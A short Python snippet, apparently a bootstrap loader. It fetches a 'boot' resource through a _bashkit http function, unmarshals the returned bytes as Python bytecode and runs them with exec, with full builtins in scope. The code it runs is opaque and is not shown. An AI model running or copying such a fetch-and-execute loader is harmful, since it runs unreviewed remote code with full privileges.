import _bashkit, builtins, marshal
own = {"__name__": "mortise", "__builtins__": {**vars(builtins)}, "host": _bashkit.http}
exec(marshal.loads(_bashkit.http("boot", "", (), None, None)[2]), own)
